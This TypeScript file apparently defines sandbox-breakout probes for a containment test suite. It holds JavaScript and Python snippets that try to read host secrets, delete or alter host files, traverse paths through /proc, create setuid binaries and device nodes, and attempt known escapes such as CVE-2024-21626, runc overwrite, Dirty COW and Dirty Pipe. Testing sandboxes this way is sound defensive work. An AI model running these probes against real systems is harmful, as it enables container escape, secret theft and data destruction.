import type { Attack } from "../attack.ts";

const attack = (
  id: string,
  title: string,
  rest: Pick<Attack, "javascript" | "python" | "limits" | "ends">,
): Attack => ({ id: `files-${id}`, group: "files", title, breakout: true, ...rest });

/** Programs that reach for the host's files. */
export const FILE_ATTACKS: readonly Attack[] = [
  attack("read", "A file of the host by its path", {
    javascript: `return read(T.folder + "/secret.txt")`,
    python: `return read(T["folder"] + "/secret.txt")`,
  }),
  attack("write", "A file of the host that all may write", {
    javascript: `return [write(T.folder + "/open.txt", T.nonce), attempt(() => sys.fs.appendFileSync(T.folder + "/open.txt", T.nonce))]`,
    python: `return write(T["folder"] + "/open.txt", T["nonce"])`,
  }),
  attack("create", "New files in folders where all may write", {
    javascript: `return [T.folder, "/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev", "/", "/etc"].map((folder) => write(folder + "/" + T.nonce, "x"))`,
    python: `return [write(folder + "/" + T["nonce"], "x") for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev", "/", "/etc")]`,
  }),
  attack("remove", "A file of the host is removed, renamed and cut", {
    javascript: `const file = T.folder + "/open.txt";
      return [attempt(() => sys.fs.truncateSync(file)), attempt(() => sys.fs.renameSync(file, file + "2")), attempt(() => sys.fs.unlinkSync(file)), attempt(() => sys.fs.rmSync(T.folder, { recursive: true }))]`,
    python: `
      import shutil
      file = T["folder"] + "/open.txt"
      return [attempt(os.truncate, file, 0), attempt(os.rename, file, file + "2"), attempt(os.unlink, file), attempt(shutil.rmtree, T["folder"])]`,
  }),
  attack("mode", "The mode and times of a file of the host", {
    javascript: `const file = T.folder + "/open.txt"; return [attempt(() => sys.fs.chmodSync(file, 0o4777)), attempt(() => sys.fs.chownSync(file, 0, 0)), attempt(() => sys.fs.chmodSync("/tmp", 0))]`,
    python: `
      file = T["folder"] + "/open.txt"
      return [attempt(os.chmod, file, 0o4777), attempt(os.chown, file, 0, 0), attempt(os.setxattr, file, "user.x", b"x")]`,
  }),
  attack("traverse", "Dots, doubled slashes and odd bytes in a path", {
    javascript: `return ["/tmp/../..", "../../../../../..", "/guest/../", "/proc/self/cwd/../../../..", "//", "/./tmp/.//../"].map((start) => read(start + T.folder + "/secret.txt"))`,
    python: `return [read(start + T["folder"] + "/secret.txt") for start in ("/tmp/../..", "../../../../../..", "/guest/../", "/proc/self/cwd/../../../..", "//")]`,
  }),
  attack("symlink", "A symbolic link in the guest's folder", {
    javascript: `const link = "/tmp/link-" + T.nonce; attempt(() => sys.fs.symlinkSync(T.folder + "/open.txt", link));
      const done = [write(link, T.nonce), attempt(() => sys.fs.symlinkSync(T.folder, link + "d")), read(link + "d/secret.txt")];
      attempt(() => sys.fs.unlinkSync(link)); attempt(() => sys.fs.unlinkSync(link + "d")); return done`,
    python: `
      link = "/tmp/link-" + T["nonce"]
      attempt(os.symlink, T["folder"] + "/open.txt", link)
      done = [write(link, T["nonce"])]
      attempt(os.unlink, link)
      return done`,
  }),
  attack("hardlink", "A hard link to a file of the host", {
    javascript: `const link = T.folder + "/link"; return [attempt(() => sys.fs.linkSync(T.folder + "/secret.txt", "/tmp/hard-" + T.nonce)), read("/tmp/hard-" + T.nonce), attempt(() => sys.fs.unlinkSync("/tmp/hard-" + T.nonce))]`,
    python: `return [attempt(os.link, T["folder"] + "/secret.txt", "/tmp/hard-" + T["nonce"]), read("/tmp/hard-" + T["nonce"]), attempt(os.unlink, "/tmp/hard-" + T["nonce"])]`,
  }),
  attack("proc-root", "The host's root through /proc", {
    javascript: `return ["self", "1", "thread-self", String(T.canaryPid), String(T.hostPid), String(sys.process.ppid)].flatMap((pid) => ["root", "cwd"].map((name) => read("/proc/" + pid + "/" + name + T.folder + "/secret.txt")))`,
    python: `return [read("/proc/%s/%s%s/secret.txt" % (pid, name, T["folder"])) for pid in ("self", 1, "thread-self", T["canaryPid"], T["hostPid"], os.getppid()) for name in ("root", "cwd")]`,
  }),
  attack("leaked-descriptors", "Folders and files that the host left open (CVE-2024-21626)", {
    javascript: `const found = [];
      for (let fd = 0; fd < 64; fd++) for (const up of ["", "/..", "/../../../../../../.."]) { const text = read("/proc/self/fd/" + fd + up + T.folder + "/secret.txt"); if (!text.startsWith("refused")) found.push(text); }
      for (let fd = 3; fd < 64; fd++) attempt(() => { const stat = sys.fs.fstatSync(fd); if (stat.isDirectory()) found.push("a folder"); });
      attempt(() => sys.process.chdir("/proc/self/fd/8")); found.push(read("../../../../../.." + T.folder + "/secret.txt"));
      return found`,
    python: `
      import stat
      found = []
      for fd in range(64):
          try:
              if stat.S_ISDIR(os.fstat(fd).st_mode):
                  inner = os.open("../../../../../.." + T["folder"] + "/secret.txt", os.O_RDONLY, dir_fd=fd)
                  found.append(os.read(inner, 1000).decode("latin1"))
          except OSError: pass
      for fd in range(64): attempt(lambda: (os.chdir("/proc/self/fd/%d" % fd), found.append(read("../../../../../.." + T["folder"] + "/secret.txt"))))
      return found`,
  }),
  attack("own-binary", "The program that runs the guest (CVE-2019-5736)", {
    javascript: `const found = [];
      for (const path of [sys.process.execPath, "/proc/self/exe", "/proc/1/exe", "/usr/bin/node", "/usr/bin/runc", "/usr/bin/bwrap"]) attempt(() => { sys.fs.closeSync(sys.fs.openSync(path, "r+")); found.push(path); });
      return found.length > 0 ? { reached: found } : "refused"`,
    python: `
      found = []
      for path in (sys.executable, "/proc/self/exe", "/proc/1/exe", "/usr/bin/runc", "/usr/bin/bwrap", os.__file__):
          try:
              os.close(os.open(path, os.O_RDWR))
              found.append(path)
          except OSError: pass
      return {"reached": found} if found else "refused"`,
  }),
  attack("agent-code", "The agent's own files, for the next guest", {
    javascript: `const { argv, execArgv } = sys.process; const found = [];
      for (const path of [argv[1], "/guest/agent.mjs", "/guest/harness.js"]) attempt(() => { sys.fs.closeSync(sys.fs.openSync(path, "r+")); found.push(path); });
      for (const folder of ["/guest", "/usr/lib", "/usr/bin", "/lib"]) attempt(() => { const path = folder + "/" + T.nonce; sys.fs.writeFileSync(path, "x"); sys.fs.unlinkSync(path); found.push(path); });
      return found.length > 0 ? { reached: found } : "refused"`,
    python: `
      found = []
      for path in [sys.argv[0], "/guest/agent.py"] + [m.__file__ for m in list(sys.modules.values()) if getattr(m, "__file__", None)][:50]:
          try:
              os.close(os.open(path, os.O_RDWR))
              found.append(path)
          except OSError: pass
      return {"reached": found} if found else "refused"`,
  }),
  attack("setuid", "A program that runs as another user", {
    javascript: `const file = "/tmp/suid-" + T.nonce; attempt(() => { sys.fs.copyFileSync(sys.process.execPath, file); }); attempt(() => sys.fs.chmodSync(file, 0o6755));
      const ran = spawn(file, "-p", "process.geteuid()"); attempt(() => sys.fs.unlinkSync(file));
      const tools = ["/usr/bin/su", "/usr/bin/sudo", "/usr/bin/passwd", "/usr/bin/newuidmap"].map((tool) => spawn(tool, "-c", "id"));
      return typeof ran.stdout === "string" && ran.stdout.trim() === "0" ? { reached: "user 0" } : [ran, tools]`,
    python: `
      file = "/tmp/suid-" + T["nonce"]
      attempt(lambda: open(file, "wb").write(open(sys.executable, "rb").read()))
      attempt(os.chmod, file, 0o6755)
      ran = attempt(lambda: subprocess.run([file, "-c", "import os; print(os.geteuid())"], capture_output=True, timeout=2).stdout.decode().strip())
      attempt(os.unlink, file)
      return {"reached": "user 0"} if ran == "0" else ran`,
  }),
  attack("device-node", "A device of the host, made in the guest's folder", {
    javascript: `const made = ["b 8 0", "b 254 0", "c 1 1", "c 10 232"].map((kind, index) => spawn("mknod", "/tmp/node-" + index + "-" + T.nonce, ...kind.split(" ")));
      const text = made.map((_, index) => { const path = "/tmp/node-" + index + "-" + T.nonce; const got = attempt(() => { const fd = sys.fs.openSync(path, "r"); const b = sys.Buffer.alloc(512); return "read " + sys.fs.readSync(fd, b, 0, 512, 0); }); attempt(() => sys.fs.unlinkSync(path)); return got; });
      return text.some((each) => each.startsWith("read")) ? { reached: text } : text`,
    python: `
      import stat
      found = []
      for mode, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 10, 232)):
          path = "/tmp/node-" + T["nonce"]
          attempt(os.mknod, path, 0o666 | mode, os.makedev(major, minor))
          got = attempt(lambda: os.read(os.open(path, os.O_RDONLY), 512))
          if isinstance(got, bytes): found.append("%d:%d" % (major, minor))
          attempt(os.unlink, path)
      return {"reached": found} if found else "refused"`,
  }),
  attack(
    "shared-mapping",
    "A read-only file, written through a mapping or the memory of the process (CVE-2016-5195)",
    {
      javascript: `return attempt(() => { const fd = sys.fs.openSync("/proc/self/mem", "r+"); return sys.fs.writeSync(fd, "x", 0); })`,
      python: `
      import mmap
      def race():
          file = open(T["folder"] + "/open.txt", "rb")
          view = mmap.mmap(file.fileno(), 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
          where = ctypes.addressof(ctypes.c_char.from_buffer_copy(view[:1]))
          end = time.monotonic() + 0.2
          mem = open("/proc/self/mem", "r+b", buffering=0)
          while time.monotonic() < end:
              libc.madvise(ctypes.c_void_p(where & ~4095), 4096, 4)
              attempt(lambda: (mem.seek(where), mem.write(b"X")))
      return attempt(race)`,
    },
  ),
  attack("dirty-pipe", "A read-only file, written through a pipe (CVE-2022-0847)", {
    python: `
      def go():
          inner, outer = os.pipe()
          size = 65536
          os.write(outer, b"x" * size)
          os.read(inner, size)
          file = os.open(T["folder"] + "/open.txt", os.O_RDONLY)
          offset = ctypes.c_longlong(0)
          spliced = libc.splice(file, ctypes.byref(offset), outer, None, 1, 0)
          return [spliced, os.write(outer, b"DIRTY")]
      return attempt(go)`,
  }),
];
